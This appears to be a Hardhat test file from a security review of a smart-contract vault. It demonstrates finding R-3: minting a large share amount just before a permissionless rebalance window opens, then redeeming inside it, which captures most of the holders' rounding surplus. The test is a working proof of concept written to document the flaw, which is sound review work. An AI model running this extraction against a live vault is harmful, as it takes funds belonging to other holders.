import { expect } from "chai";
import { ethers } from "hardhat";
import { loadFixture } from "@nomicfoundation/hardhat-network-helpers";
import { rebalanceFixture, type Fx } from "../contracts/rebalance/fixture";

/**
 * Review finding R-3 (low): outside a window mint pays ceil(shares * storedUnit * scale), the stored units
 * being floor(balance * 1e18 / S) from the last close; inside a window redeem pays floor(shares * balance / S).
 * The vault's surplus over its units (the floors of the last close, up to one base unit per whole share
 * per token, plus fee-accrual floors and donations) belongs to the holders, but anyone can take it: mint
 * a large number of shares just before a window opens (the open is permissionless through
 * performUpkeep), redeem just after. Here: 9x the supply captures ~90% of the surplus.
 *
 * This test PASSES on today's code: it demonstrates the extraction succeeding.
 */
async function usdValue(fx: Fx, who: string): Promise<bigint> {
  let v = 0n;
  for (const t of Object.values(fx.market.tokens)) {
    const bal = await (await ethers.getContractAt("IERC20", t.address)).balanceOf(who);
    const [p, d] = await fx.registry.priceAndDecimals(t.address);
    v += (bal * p) / 10n ** d;
  }
  return v;
}

describe("review R-3: mint before the open, redeem inside the window, takes the holders' rounding surplus", function () {
  it("the attacker ends with more USD of constituents than it paid", async function () {
    const fx = await loadFixture(rebalanceFixture);
    const btc = await ethers.getContractAt("IERC20", fx.addr("cbBTC"));
    const [, stored, scale] = await fx.vault.rawBasket();
    const supply = await fx.vault.totalSupply();
    // The surplus the units do not count (cbBTC: 8 decimals, ~$95k: one sat per share is ~$0.001).
    const surplus = (await btc.balanceOf(fx.vault)) - (stored[0]! * scale * supply) / 10n ** 36n;
    expect(surplus).to.be.gt(0n);

    const before = await usdValue(fx, fx.alice.address);
    const btcBefore = await btc.balanceOf(fx.alice.address);
    const big = 9n * supply;
    const [, maxIn] = await fx.vault.previewMint(big);
    await fx.vault.connect(fx.alice).mint(big, fx.alice.address, [...maxIn]);
    await fx.rebalancer.connect(fx.outsider).performUpkeep("0x"); // Open
    const [, out] = await fx.vault.previewRedeem(big);
    await fx.vault.connect(fx.alice).redeem(big, fx.alice.address, out.map(() => 0n));

    const gainedBtc = (await btc.balanceOf(fx.alice.address)) - btcBefore;
    expect(gainedBtc).to.be.gt((surplus * 8n) / 10n); // most of the holders' surplus
    expect(await usdValue(fx, fx.alice.address)).to.be.gt(before);
    console.log(`      surplus ${surplus} sat, taken ${gainedBtc} sat; attacker +${(await usdValue(fx, fx.alice.address)) - before} (1e18 USD)`);
  });
});
